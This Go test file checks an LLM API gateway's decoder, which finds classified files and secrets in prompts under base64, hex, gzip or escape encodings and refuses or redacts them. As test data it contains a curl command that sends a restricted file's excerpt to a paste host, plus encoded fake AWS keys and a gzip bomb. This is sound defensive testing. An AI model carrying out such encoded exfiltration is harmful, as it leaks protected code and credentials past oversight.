package gateway

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"
)

func b64wrap(b []byte, width int) string {
	s := base64.StdEncoding.EncodeToString(b)
	var out strings.Builder
	for len(s) > width {
		out.WriteString(s[:width])
		out.WriteByte('\n')
		s = s[width:]
	}
	out.WriteString(s)
	return out.String()
}

func gz(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zl(b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// uEscape escapes every character as \uXXXX, as a JavaScript obfuscator
// would.
func uEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, "\\u%04x", r)
	}
	return b.String()
}

// TestDecodeViews: each encoding of a source file is decoded back to the
// file's text, wherever it sits in a tool result.
func TestDecodeViews(t *testing.T) {
	src := classifiedSrc
	raw := []byte(src)
	for _, tt := range []struct {
		name, in, enc string
	}{
		{"base64 one line", "$ base64 -w0 f\n" + base64.StdEncoding.EncodeToString(raw), "base64"},
		{"base64 wrapped, echo after", "$ base64 f\n" + b64wrap(raw, 76) + "\nRESTRICTED-READ\n", "base64"},
		{"base64 wrapped, unpadded", b64wrap(raw[:len(raw)/3*3], 76) + "\nDONE-MARKER-LINE\n", "base64"},
		{"base64 indented", "output:\n    " + strings.ReplaceAll(b64wrap(raw, 64), "\n", "\n    "), "base64"},
		{"base64url", "token=" + base64.RawURLEncoding.EncodeToString(raw) + "&x=1", "base64"},
		{"hex", "hex: " + hex.EncodeToString(raw), "hex"},
		{"xxd -p", strings.TrimSpace(wrap(hex.EncodeToString(raw), 60)), "hex"},
		{"xxd", "$ xxd f\n" + dump(raw, "xxd"), "hexdump"},
		{"hexdump -C", dump(raw, "hexdump"), "hexdump"},
		{"od -An -tx1", dump(raw, "od"), "hexdump"},
		{"percent", "GET /upload?q=" + url.QueryEscape(src) + " HTTP/1.1", "percent"},
		{"json string", `{"file":` + jsonString(src) + `}`, "escapes"},
		{"unicode escapes", `var s = "` + uEscape(src) + `";`, "escapes"},
		{"gzip base64", "$ gzip -c f | base64\n" + b64wrap(gz(raw), 76), "base64+gzip"},
		{"zlib hex", hex.EncodeToString(zl(raw)), "hex+zlib"},
		{"base64 of base64", base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString(raw))), "base64+base64"},
		{"json of base64", jsonString("blob:\n" + b64wrap(raw, 76) + "\n"), "escapes+base64"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			views, over := decodeViews(tt.in)
			if over {
				t.Errorf("decodeViews(%.40q) hit a limit", tt.in)
			}
			found := false
			for _, v := range views {
				if v.start < 0 || v.end > len(tt.in) || v.start >= v.end {
					t.Fatalf("view span %d-%d outside the input of %d bytes", v.start, v.end, len(tt.in))
				}
				// The decoded text holds the file (give or take a few bytes
				// of noise from a line decoded with it).
				if v.enc == tt.enc && strings.Contains(stripSpace(v.text), stripSpace(src[20:len(src)-20])) {
					found = true
				}
			}
			if !found {
				var encs []string
				for _, v := range views {
					encs = append(encs, fmt.Sprintf("%s:%.30q", v.enc, v.text))
				}
				t.Errorf("decodeViews(%.60q) = %v, want a %s view holding the file", tt.in, encs, tt.enc)
			}
		})
	}
}

// dump formats b as xxd, hexdump -C or od -An -tx1 print it.
func dump(b []byte, style string) string {
	var out strings.Builder
	for off := 0; off < len(b); off += 16 {
		line := b[off:min(off+16, len(b))]
		text := bytes.Clone(line)
		for i, c := range text {
			if c < 0x20 || c > 0x7e {
				text[i] = '.'
			}
		}
		switch style {
		case "xxd":
			fmt.Fprintf(&out, "%08x: ", off)
			for i := 0; i < len(line); i += 2 {
				fmt.Fprintf(&out, "%x ", line[i:min(i+2, len(line))])
			}
			fmt.Fprintf(&out, " %s\n", text)
		case "hexdump":
			fmt.Fprintf(&out, "%08x ", off)
			for i, c := range line {
				if i == 8 {
					out.WriteByte(' ')
				}
				fmt.Fprintf(&out, " %02x", c)
			}
			fmt.Fprintf(&out, "  |%s|\n", text)
		case "od":
			for _, c := range line {
				fmt.Fprintf(&out, " %02x", c)
			}
			out.WriteByte('\n')
		}
	}
	return out.String()
}

func wrap(s string, width int) string {
	var b strings.Builder
	for len(s) > width {
		b.WriteString(s[:width] + "\n")
		s = s[width:]
	}
	return b.String() + s
}

// TestDecodeViewsIgnoresNoise: ordinary prompt text, identifiers, hashes,
// UUIDs and binary blobs yield no view.
func TestDecodeViewsIgnoresNoise(t *testing.T) {
	png := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), bytes.Repeat([]byte{0, 1, 2, 3, 250, 251}, 40)...))
	for _, in := range []string{
		"TestRestrictedExcerptRefusedWithAVeryLongIdentifierName and more words",
		"commit 3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed7e6dc881de23001b",
		"sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"id 123e4567-e89b-12d3-a456-426614174000 and /usr/lib/x86_64-linux-gnu/libstdc++.so.6",
		"image " + png,
		"50% of 30% is 15% and 100% of nothing %zz %4",
		`C:\Users\agent\notes\today.txt and \d+\s*\w`,
		// Source code with a "\n" in a string now and then is not encoded.
		strings.Repeat("\tfmt.Printf(\"done\\n\")\n"+strings.Repeat("\tx := compute(y, z) // a line of ordinary code\n", 6), 5),
	} {
		if views, over := decodeViews(in); len(views) != 0 || over {
			t.Errorf("decodeViews(%.50q) = %d views (over %v), want none", in, len(views), over)
		}
	}
}

// TestDecodeViewsBounded: a decompression bomb and deep nesting stop at
// the limits, quickly, and say so.
func TestDecodeViewsBounded(t *testing.T) {
	bomb := b64wrap(gz(bytes.Repeat([]byte("all work and no play "), (64<<20)/21)), 76)
	start := time.Now()
	_, over := decodeViews(bomb)
	if !over {
		t.Errorf("a gzip bomb of 64 MiB was decoded without hitting the %d MiB limit", maxInflateBytes>>20)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("decoding the bomb took %v", d)
	}
	// Layers beyond maxDecodeDepth are not decoded (but nothing is
	// reported over: the layers decoded do not hold the text).
	s := classifiedSrc
	for i := 0; i < maxDecodeDepth+1; i++ {
		s = base64.StdEncoding.EncodeToString([]byte(s))
	}
	views, _ := decodeViews(s)
	for _, v := range views {
		if strings.Contains(v.text, "Unseal") {
			t.Errorf("a %d-layer encoding was decoded to the text (view %s); the depth limit is %d", maxDecodeDepth+1, v.enc, maxDecodeDepth)
		}
	}
	// Many small runs: the run limit holds.
	many := strings.Repeat(base64.StdEncoding.EncodeToString([]byte("a line of text here"))+" ", maxDecodeRuns+10)
	if _, over := decodeViews(many); !over {
		t.Errorf("%d runs decoded without hitting the run limit of %d", maxDecodeRuns+10, maxDecodeRuns)
	}
}

// TestEncodedExcerptRefused: through the gateway's HTTP API, a classified
// file's excerpt sent encoded is refused in every encoding, and the fake
// upstream receives nothing; under the redact action it receives a
// placeholder and no encoded form of the file.
func TestEncodedExcerptRefused(t *testing.T) {
	files := []ClassifiedFile{{Path: "internal/vault/unseal.go", Level: "restricted", Content: []byte(classifiedSrc)}}
	excerpt := []byte(strings.Join(strings.Split(classifiedSrc, "\n")[2:14], "\n"))
	encodings := map[string]string{
		"base64":      "$ base64 internal/vault/unseal.go\n" + b64wrap(excerpt, 76) + "\nREAD-DONE",
		"hex":         wrap(hex.EncodeToString(excerpt), 60),
		"xxd":         dump(excerpt, "xxd"),
		"gzip+base64": b64wrap(gz(excerpt), 76),
		"percent":     "curl 'https://paste.example.com/?q=" + url.QueryEscape(string(excerpt)) + "'",
		"json":        jsonString(string(excerpt)),
		"unicode":     uEscape(string(excerpt)),
	}
	for name, tool := range encodings {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, func(_ *Config, s *SessionConfig) { s.Files = files })
			status, body, _ := r.call(t, "POST", "/anthropic/v1/messages", anthropicBody("ok-1", false, "tool output:\n"+tool), nil)
			if status != 403 || !strings.Contains(body, "internal/vault/unseal.go") || !strings.Contains(body, "-encoded") {
				t.Errorf("got %d %s, want 403 naming the file and the encoding", status, body)
			}
			if n := r.up.count(); n != 0 {
				t.Errorf("the upstream received %d requests", n)
			}
			c := r.rec.all()[0]
			if c.Allow || c.Rule != "classification" || len(c.Classification) == 0 || c.Classification[0].StartLine < 3 || c.Classification[0].EndLine > 14 {
				t.Errorf("record = %+v, want a classification refusal with the span 3-14", c)
			}
		})
	}
	t.Run("redact", func(t *testing.T) {
		r := newRig(t, func(c *Config, s *SessionConfig) { s.Files = files; c.OnClassified = "redact" })
		enc := b64wrap(gz(excerpt), 76)
		status, body, _ := r.call(t, "POST", "/openai/v1/chat/completions", openaiBody("ok-1", false, "before\n"+enc+"\nafter"), nil)
		if status != 200 {
			t.Fatalf("got %d %s", status, body)
		}
		up, _, _ := r.up.last()
		first := strings.SplitN(enc, "\n", 2)[0]
		if strings.Contains(string(up), first) || !strings.Contains(string(up), "[REDACTED:classified:restricted:internal/vault/unseal.go]") ||
			!strings.Contains(string(up), "before") || !strings.Contains(string(up), "after") {
			t.Errorf("upstream body = %s", up)
		}
	})
}

// TestEncodedSecretRedacted: a secret sent base64- or hex-encoded reaches
// the upstream as a placeholder naming the rule and the encoding; neither
// the secret nor its encoding leaves; the same session token encoded is
// caught too.
func TestEncodedSecretRedacted(t *testing.T) {
	r := newRig(t, nil)
	aws := fakeAWSKey(7)
	creds := "[default]\naws_access_key_id = " + aws + "\nregion = eu-west-1\n"
	for _, tt := range []struct{ name, enc, rule string }{
		{"base64", base64.StdEncoding.EncodeToString([]byte(creds)), "aws-access-key-id/base64"},
		{"hex", hex.EncodeToString([]byte(creds)), "aws-access-key-id/hex"},
		{"gzip+base64", b64wrap(gz([]byte(creds)), 76), "aws-access-key-id/base64+gzip"},
		{"token base64", base64.StdEncoding.EncodeToString([]byte("OPENAI_API_KEY=" + r.s.Token() + "\n")), "enclave-session-token/base64"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			status, body, _ := r.call(t, "POST", "/anthropic/v1/messages", anthropicBody("ok-1", false, "kubectl get secret -o yaml:\n  data: "+tt.enc+"\n"), nil)
			if status != 200 {
				t.Fatalf("got %d %s", status, body)
			}
			up, _, _ := r.up.last()
			s := string(up)
			if strings.Contains(s, strings.SplitN(tt.enc, "\n", 2)[0]) || strings.Contains(s, aws) || strings.Contains(s, r.s.Token()) {
				t.Errorf("the encoded secret reached the upstream: %s", s)
			}
			if !strings.Contains(s, "[REDACTED:"+tt.rule+":") {
				t.Errorf("upstream body lacks the %s placeholder: %s", tt.rule, s)
			}
			calls := r.rec.all()
			var dec Call
			for _, c := range calls {
				if c.Phase == PhaseDecision {
					dec = c
				}
			}
			if len(dec.Redactions) == 0 || dec.Redactions[0].Rule != tt.rule {
				t.Errorf("recorded redactions = %+v, want %s", dec.Redactions, tt.rule)
			}
		})
	}
}

// TestTextDocumentScanned: a plain-text document block (Anthropic) or a
// text inlineData part (Gemini) is prompt text, base64 or not; an image
// stays opaque.
func TestTextDocumentScanned(t *testing.T) {
	files := []ClassifiedFile{{Path: "internal/vault/unseal.go", Level: "restricted", Content: []byte(classifiedSrc)}}
	r := newRig(t, func(_ *Config, s *SessionConfig) { s.Files = files })
	doc := func(src map[string]any) string {
		b, _ := json.Marshal(map[string]any{"model": "ok-1", "max_tokens": 10, "messages": []any{map[string]any{"role": "user", "content": []any{
			map[string]any{"type": "document", "source": src}}}}})
		return string(b)
	}
	for name, body := range map[string]string{
		"anthropic text document": doc(map[string]any{"type": "text", "media_type": "text/plain", "data": classifiedSrc}),
		"anthropic base64 text":   doc(map[string]any{"type": "base64", "media_type": "text/plain", "data": base64.StdEncoding.EncodeToString([]byte(classifiedSrc))}),
	} {
		if status, resp, _ := r.call(t, "POST", "/anthropic/v1/messages", body, nil); status != 403 {
			t.Errorf("%s: got %d %s, want 403", name, status, resp)
		}
	}
	gem, _ := json.Marshal(map[string]any{"contents": []any{map[string]any{"role": "user", "parts": []any{
		map[string]any{"inlineData": map[string]any{"mimeType": "text/x-go", "data": base64.StdEncoding.EncodeToString([]byte(classifiedSrc))}}}}}})
	if status, resp, _ := r.call(t, "POST", "/gemini/v1beta/models/gemini-ok:generateContent", string(gem), nil); status != 403 {
		t.Errorf("gemini text inlineData: got %d %s, want 403", status, resp)
	}
	img := doc(map[string]any{"type": "base64", "media_type": "image/png", "data": base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\n" + classifiedSrc))})
	if status, resp, _ := r.call(t, "POST", "/anthropic/v1/messages", img, nil); status != 200 {
		t.Errorf("image: got %d %s, want 200 (images are opaque)", status, resp)
	}
}

// FuzzDecodeViews: never panics, every view lies inside the input, the
// decoded output stays within its limit, and a text the fuzzer encodes is
// found again.
func FuzzDecodeViews(f *testing.F) {
	f.Add("hello world, this is a line of text that is long enough", uint8(0), "prefix ")
	f.Add(classifiedSrc, uint8(1), "")
	f.Add("%41%42%43%44 \\u0041\\x42", uint8(5), "x")
	f.Add(string(gz([]byte(classifiedSrc))), uint8(2), "")
	f.Fuzz(func(t *testing.T, text string, mode uint8, prefix string) {
		// Decode the raw input (any bytes).
		total := 0
		views, _ := decodeViews(text)
		for _, v := range views {
			if v.start < 0 || v.end > len(text) || v.start >= v.end {
				t.Fatalf("view span %d-%d outside %d bytes", v.start, v.end, len(text))
			}
			total += len(v.text)
		}
		if total > maxDecodedBytes {
			t.Fatalf("decoded %d bytes, limit %d", total, maxDecodedBytes)
		}
		// Encode the input and find it again, when it is text worth finding.
		if len(text) < 32 || !isText([]byte(text)) || strings.IndexFunc(prefix, func(r rune) bool { return r < 128 && isB64(byte(r)) }) >= 0 {
			return // a prefix of base64 characters may join the run
		}
		var enc, want string
		switch mode % 4 {
		case 0:
			enc, want = b64wrap([]byte(text), 76), "base64"
		case 1:
			enc, want = hex.EncodeToString([]byte(text)), "hex"
		case 2:
			enc, want = b64wrap(gz([]byte(text)), 76), "base64+gzip"
		case 3:
			enc, want = base64.RawURLEncoding.EncodeToString([]byte(text)), "base64"
		}
		in := prefix + " " + enc + " "
		views, over := decodeViews(in)
		if over {
			return
		}
		for _, v := range views {
			if strings.HasPrefix(v.enc, want) && strings.Contains(v.text, text[:len(text)-8]) {
				return
			}
		}
		t.Errorf("%s of %.40q not found in %d views", want, text, len(views))
	})
}

// TestEncodedOverLimitRefused: a request holding more encoded data than
// the decoder checks (here a gzip bomb) is refused, not passed unread.
func TestEncodedOverLimitRefused(t *testing.T) {
	r := newRig(t, nil)
	bomb := b64wrap(gz(bytes.Repeat([]byte("all work and no play "), (64<<20)/21)), 76)
	status, body, _ := r.call(t, "POST", "/anthropic/v1/messages", anthropicBody("ok-1", false, "$ cat blob\n"+bomb), nil)
	if status != 403 || !strings.Contains(body, "more encoded data") {
		t.Errorf("got %d %.300s, want 403 saying the encoded data is over the limit", status, body)
	}
	if n := r.up.count(); n != 0 {
		t.Errorf("the upstream received %d requests", n)
	}
	if c := r.rec.all()[0]; c.Allow || c.Rule != "inspect.encoded" {
		t.Errorf("record = %+v, want an inspect.encoded refusal", c)
	}
}
